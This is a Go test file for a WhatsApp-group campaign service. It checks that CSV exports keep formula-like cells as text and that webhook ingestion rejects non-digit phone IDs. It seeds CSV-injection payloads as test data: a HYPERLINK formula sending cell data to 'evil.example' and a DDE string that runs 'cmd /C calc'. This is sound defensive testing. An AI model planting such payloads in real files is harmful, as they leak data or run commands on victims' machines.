package security

import (
	"context"
	"encoding/csv"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"groupdeck/store"
)

const formula = `=HYPERLINK("http://evil.example/?"&A1,"Click")`

// joinedAt is a participants_add webhook with its own time.
func joinedAt(waGroupID, waID string, at time.Time) []byte {
	return envelope("group_participants_update", map[string]any{"groups": []any{map[string]any{
		"timestamp": strconv.FormatInt(at.Unix(), 10), "group_id": waGroupID, "type": "group_participants_add",
		"reason": "invite_link", "added_participants": []any{map[string]string{"wa_id": waID}}}}})
}

// exportRows downloads a CSV export and parses it.
func exportRows(t *testing.T, c *client, path string) [][]string {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, c.e.a.URL+path, nil)
	res, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	recs, err := csv.NewReader(res.Body).ReadAll()
	if err != nil || res.StatusCode != http.StatusOK || len(recs) < 2 {
		t.Fatalf("%s: %d, %d rows, %v", path, res.StatusCode, len(recs), err)
	}
	return recs
}

// Every cell of every export that a spreadsheet would run as a formula
// is text, and each number also comes as digits alone, unguarded.
func TestExportsKeepFormulasAsText(t *testing.T) {
	e := start(t)
	ctx := context.Background()
	gid := e.group(formula, "", "sec-csv")
	camp := &store.Campaign{Name: formula, Slug: "poster", GroupID: gid, Enabled: true}
	if err := e.a.Store.CreateCampaign(ctx, camp); err != nil {
		t.Fatal(err)
	}
	send, err := e.a.Store.ClaimInviteSend(ctx, camp.ID, 1, "15550003333")
	if err != nil {
		t.Fatal(err)
	}
	if err := e.a.Store.FinishInviteSend(ctx, send.ID, "failed", "", "-1+1 @SUM(A1)"); err != nil {
		t.Fatal(err)
	}
	// A visit, then a join a moment later: credited to the campaign.
	req, _ := http.NewRequest(http.MethodGet, e.a.URL+"/j/poster", nil)
	req.Header.Set("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Mobile/15E148")
	if res, err := e.client().Do(req); err != nil || res.StatusCode != http.StatusFound {
		t.Fatalf("visit: %v %v", res, err)
	}
	if st := e.signed(joinedAt("sec-csv", "15550002222", time.Now().Add(2*time.Second))); st != http.StatusOK {
		t.Fatalf("join: %d", st)
	}
	if st := e.signed(message("sec-csv", "wamid.csv1", "15550002222", "@SUM(1+1)*cmd|' /C calc'!A0", "hi")); st != http.StatusOK {
		t.Fatalf("message: %d", st)
	}

	admin := e.login("admin@x.test")
	for _, path := range []string{"/campaigns/" + itoa(camp.ID) + "/export.csv", "/groups/" + itoa(gid) + "/participants.csv", "/participants.csv"} {
		recs := exportRows(t, admin, path)
		waCol := -1
		for i, h := range recs[0] {
			if h == "wa_id" {
				waCol = i
			}
		}
		if waCol < 0 {
			t.Errorf("%s has no digits-only wa_id column: %q", path, recs[0])
		}
		numbers := map[string]bool{}
		for _, rec := range recs[1:] {
			for i, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: column %s is %q, which a spreadsheet runs as a formula", path, recs[0][i], cell)
				}
			}
			if waCol < 0 {
				continue
			}
			if n := rec[waCol]; n != "" {
				if strings.Trim(n, "0123456789") != "" {
					t.Errorf("%s: wa_id %q is not digits only", path, n)
				}
				numbers[n] = true
			}
		}
		if waCol >= 0 && !numbers["15550002222"] {
			t.Errorf("%s: the participant's number is not in the wa_id column: %q", path, recs)
		}
		if waCol >= 0 && strings.HasPrefix(path, "/campaigns/") && !numbers["15550003333"] {
			t.Errorf("%s: the invited number is not in the wa_id column: %q", path, recs)
		}
	}
}

// A wa_id that is not a phone number is not stored as one: the change
// fails, its delivery is kept as failed with the reason, and nothing
// about the person is stored.
func TestIngestRefusesNonDigitWaID(t *testing.T) {
	e := start(t)
	e.group("Ids", "", "sec-ids")
	for _, bad := range []string{"=1+1", "+15550001111", "1555 000 1111", "<b>1</b>"} {
		if st := e.signed(joined("sec-ids", bad, "u")); st != http.StatusOK {
			t.Fatalf("join of %q: %d (a failed delivery is still acknowledged)", bad, st)
		}
		if st := e.signed(message("sec-ids", "wamid."+bad, bad, "Name", "hi")); st != http.StatusOK {
			t.Fatalf("message from %q: %d", bad, st)
		}
	}
	if n := e.count(`SELECT count(*) FROM participants`); n != 0 {
		t.Errorf("%d participants stored from non-digit wa_ids", n)
	}
	if n := e.count(`SELECT count(*) FROM messages WHERE direction = 'in'`); n != 0 {
		t.Errorf("%d inbound messages stored from non-digit senders", n)
	}
	if n := e.count(`SELECT count(*) FROM webhook_deliveries WHERE outcome = 'failed' AND error LIKE '%is not a phone number%'`); n != 8 {
		t.Errorf("%d deliveries failed naming the bad wa_id, want 8", n)
	}
	if st := e.signed(joined("sec-ids", "15550001111", "u")); st != http.StatusOK {
		t.Fatal(st)
	}
	if n := e.count(`SELECT count(*) FROM participants`); n != 1 {
		t.Errorf("a digits-only wa_id was not stored: %d participants", n)
	}
}
